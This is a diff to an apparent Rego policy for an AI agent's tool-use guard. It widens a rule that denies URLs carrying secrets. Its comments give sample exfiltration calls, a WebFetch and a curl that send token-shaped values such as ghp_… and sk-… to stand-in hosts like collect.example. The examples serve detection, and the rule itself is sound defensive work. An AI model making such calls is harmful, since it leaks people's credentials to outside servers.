@@ -76,7 +76,7 @@ secret_for_host(kind, host) if {
 }
 
 # @rule net/secret-in-url deny
-# A live credential (a vendor token shape: ghp_…, sk-…, AKIA…, a private key) written into a URL's path or query that goes to another vendor's host: WebFetch of https://collect.example/?k=ghp_…, curl "https://x/p?t=sk-…". The URL is logged by every proxy and server on the way. Loopback targets are local.
+# A live credential (a vendor token shape: ghp_…, sk-…, AKIA…, a private key) written into a URL's path or query that goes to another vendor's host: WebFetch of https://collect.example/?k=ghp_…, curl "https://x/p?t=sk-…". The URL is logged by every proxy and server on the way. Loopback targets are local. Also a secret written as a named value, to any host: a password-named parameter with a literal password (?ftp_pass=…), a private key (?key=-----BEGIN PRIVATE KEY-----…), define('DB_PASSWORD','…'), NAME=value.
 decision contains {"id": "net/secret-in-url", "decision": "deny", "reason": reason} if {
 	some n in net_facts
 	some kind in object.get(n, "secrets", [])
@@ -92,7 +92,21 @@ decision contains {"id": "net/secret-param", "decision": "ask", "reason": reason
 	some name in object.get(n, "secret_params", [])
 	not n.class == "loopback"
 	count(object.get(n, "secrets", [])) == 0
+	count(object.get(n, "named_secrets", [])) == 0
 	reason := sprintf("%s would send a value named %s, which looks like a secret, to %s in the URL", [how(n), name, n.host])
+}
+
+# h-out25: a secret written as a named value after the host (a password-named parameter with a
+# literal password, ?ftp_pass=…; a private key, ?key=-----BEGIN PRIVATE KEY-----…;
+# define('DB_PASSWORD','…'); NAME=value; hookward-facts net.rs url_named_secrets). No vendor
+# takes a password or a private key in a URL, so the host does not matter; loopback is local.
+decision contains {"id": "net/secret-in-url", "decision": "deny", "reason": reason} if {
+	some n in net_facts
+	count(object.get(n, "secrets", [])) == 0
+	names := object.get(n, "named_secrets", [])
+	count(names) > 0
+	not n.class == "loopback"
+	reason := sprintf("%s would send the secret value of %s to %s in the URL (%s)", [how(n), concat(", ", names), n.host, n.url])
 }
 
 how(n) := sprintf("the %s tool", [input.event.tool.name]) if n.via == "tool"
